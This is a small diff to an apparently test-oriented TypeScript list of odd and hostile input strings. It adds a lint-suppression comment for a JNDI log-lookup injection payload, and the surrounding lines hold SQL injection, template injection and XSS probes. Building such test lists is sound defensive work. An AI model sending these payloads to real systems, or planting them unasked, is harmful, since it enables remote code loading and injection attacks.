@@ -193,6 +193,7 @@ export const OTHER_STRINGS = [
   '%00',
   "' OR 1=1 --",
   '{{7*7}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-lookup injection, sent as the literal text
   '${jndi:ldap://x/a}',
   '<script>alert(1)</script>',
   '\u0085',
